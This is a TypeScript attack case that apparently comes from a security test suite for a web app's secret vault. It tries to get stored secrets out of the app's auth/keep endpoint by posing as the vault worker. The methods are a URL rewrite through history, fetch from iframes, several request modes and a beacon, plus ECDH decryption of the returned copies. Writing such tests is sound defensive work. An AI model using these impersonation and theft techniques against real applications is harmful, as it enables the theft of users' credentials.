import { attack } from "../attack.js";

export default attack({
  name: "speaks the keeper's protocol from pages, also at the worker's URL",
  threat: "single-execution theft",
  target: "strongroom",
  alone: true,
  async payload(it) {
    const curve = { name: "ECDH", namedCurve: "P-256" };
    const own = await crypto.subtle.generateKey(curve, true, ["deriveKey"]);
    const raw = new Uint8Array(await crypto.subtle.exportKey("raw", own.publicKey));
    const key = btoa(String.fromCharCode(...raw))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");
    const shared = async (peer: Uint8Array<ArrayBuffer>) =>
      crypto.subtle.deriveKey(
        { name: "ECDH", public: await crypto.subtle.importKey("raw", peer, curve, false, []) },
        own.privateKey,
        { name: "AES-GCM", length: 256 },
        false,
        ["encrypt", "decrypt"],
      );
    /** Requests the stream with a window's own `fetch`, and decrypts the copies in it. */
    const keep = async (ask: typeof fetch) => {
      const response = await ask(`${it.appUrl}auth/keep?key=${key}`);
      const reader = response.body?.getReader();
      setTimeout(() => void reader?.cancel(), 700);
      let bytes = new Uint8Array();
      let secret: CryptoKey | undefined;
      for (let chunk = await reader?.read(); chunk?.value; chunk = await reader?.read()) {
        bytes = new Uint8Array([...bytes, ...chunk.value]);
        while (bytes.length >= 5) {
          const length = new DataView(bytes.buffer).getUint32(1);
          if (bytes.length < 5 + length) break;
          const payload = bytes.slice(5, 5 + length);
          if (bytes[0] === 1) secret = await shared(payload.slice(0, 65));
          if (bytes[0] === 2 && secret) {
            const iv = payload.slice(0, 12);
            const opened = await crypto.subtle.decrypt({ name: "AES-GCM", iv }, secret, payload.slice(12));
            it.steal(new TextDecoder("latin1").decode(opened));
          }
          bytes = bytes.slice(5 + length);
        }
      }
    };
    const attempt = (ask: typeof fetch) => keep(ask).catch((error: unknown) => it.steal(String(error)));
    await attempt(fetch);
    history.pushState(null, "", "/vault-worker.js");
    await attempt(fetch);
    // A frame that shows the script has the worker's URL.
    for (const src of ["/vault-worker.js", "about:blank"]) {
      const frame = document.createElement("iframe");
      frame.src = src;
      document.body.append(frame);
      await it.pause(200);
      try {
        const { fetch, history } = frame.contentWindow as Window & typeof globalThis;
        await attempt(fetch);
        history.replaceState(null, "", "/vault-worker.js");
        await attempt(fetch);
      } catch {
        // Cross-origin, like a sandboxed page.
      }
    }
    for (const init of [
      { mode: "no-cors" },
      { mode: "same-origin" },
      { keepalive: true },
      { method: "POST", body: raw },
    ] as RequestInit[]) {
      const response = await fetch(`/auth/keep?key=${key}`, {
        ...init,
        signal: AbortSignal.timeout(500),
      }).catch(() => undefined);
      it.steal(await response?.text().catch(() => ""));
    }
    navigator.sendBeacon("/auth/keep", raw);
    history.replaceState(null, "", "/");
  },
});
